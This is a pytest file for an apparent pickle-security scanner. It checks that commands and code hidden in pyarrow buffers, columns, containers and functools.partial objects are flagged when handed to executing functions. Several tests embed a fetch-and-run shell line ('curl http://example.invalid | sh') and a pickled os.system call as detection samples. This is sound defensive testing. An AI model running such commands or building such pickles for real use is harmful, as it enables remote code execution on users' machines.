"""What an event is given: the texts and bytes that callables pass on, and those that are data in any case."""

from __future__ import annotations

from typing import Any

import pytest

from picklegate import Verdict, scan_bytes
from picklegate.training.tree import Build, Call, Name
from support.builders import COMMAND, SOURCE, call, written


def _score(tree: Any) -> float:
    return scan_bytes(written(tree, 5)).score


@pytest.mark.parametrize("kind", [bytes, bytearray])
def test_bytes_in_memory_of_pyarrow_are_those_bytes(kind: type) -> None:
    """Whoever is given a buffer of code is judged as if given the code."""
    script = kind(SOURCE.encode() * 3)
    bare = _score(call("package.tools", "run_script", script))
    assert _score(call("package.tools", "run_script", call("pyarrow.lib", "py_buffer", script))) == bare > 0.5


@pytest.mark.parametrize("maker", ["list", "tuple", "set", "frozenset"])
def test_a_container_of_commands_is_seen_by_whom_it_is_given(maker: str) -> None:
    """A command in a list is judged where it is handed on, also when a call makes the list."""
    bare = _score(call("package.tools", "run_command", [f"curl http://example.invalid | sh; {COMMAND}"]))
    made = call("builtins", maker, [f"curl http://example.invalid | sh; {COMMAND}"])
    assert min(bare, _score(call("package.tools", "run_command", made))) > 0.9


def _column(text: bytes) -> Any:
    parts = [call("pyarrow.lib", "py_buffer", part) for part in (bytes(8), text)]
    kind = call("pyarrow.lib", "type_for_alias", "string")
    return call("pyarrow.lib", "_restore_array", (kind, 1, 0, 0, [None, *parts], [], None))


_LINE = _column(f"curl http://example.invalid | sh; {COMMAND}".encode())


@pytest.mark.parametrize(
    "taken",
    [
        _LINE,
        call("pyarrow.lib", "Array.tolist", _LINE),
        call("builtins", "str", _LINE),
        Call(call("builtins", "getattr", _LINE, "tolist"), ()),
    ],
    ids=["itself", "function", "str", "method"],
)
def test_a_command_in_a_column_is_seen_by_whom_it_is_given(taken: Any) -> None:
    """A column is data where pandas keeps it, and a text where something else is given it."""
    assert scan_bytes(written(call("package.tools", "run_command", taken))).verdict > Verdict.CLEAN
    assert scan_bytes(written(call("pyarrow.lib", "chunked_array", [_LINE], None))).verdict == Verdict.CLEAN


@pytest.mark.parametrize(
    "loader", [Name("pickle", "loads"), Name("joblib.numpy_pickle", "loads"), Name("package.tools", "load_pickle")]
)
def test_a_pickle_in_memory_of_pyarrow_is_read(loader: Name) -> None:
    """A nested stream in a buffer is traced when something loads it."""
    inner = written(call("os", "system", COMMAND))
    found = scan_bytes(written(call(loader.module, loader.name, call("pyarrow.lib", "py_buffer", inner))))
    assert found.verdict == Verdict.MALICIOUS


def test_a_changed_buffer_is_not_known() -> None:
    """What a stream computes of a bytearray in a buffer is not told from the bytes that it began with."""
    name = call("builtins", "bytes", call("pyarrow.lib", "py_buffer", bytearray(b"math")))
    made = call("builtins", "getattr", call("importlib", "import_module", call("codecs", "decode", name)), "sqrt")
    assert scan_bytes(written(made, 5)).verdict > Verdict.CLEAN


def _partial(text: str) -> Any:
    function = Name("package.tools", "run_command")
    return Build(call("functools", "partial", function), (function, (), {"command": text}, None))


def test_what_a_partial_holds_counts_where_it_is_called_or_given() -> None:
    """A text by keyword is data as long as nobody gets it."""
    command = f"curl http://example.invalid | sh; {COMMAND}"
    assert scan_bytes(written(_partial(r"(?u)\b\w[\w\-]+\b"), 4)).verdict == Verdict.CLEAN
    assert _score(Call(_partial(command), ())) > 0.9
    assert _score(call("package.tools", "apply", _partial(command))) > 0.5
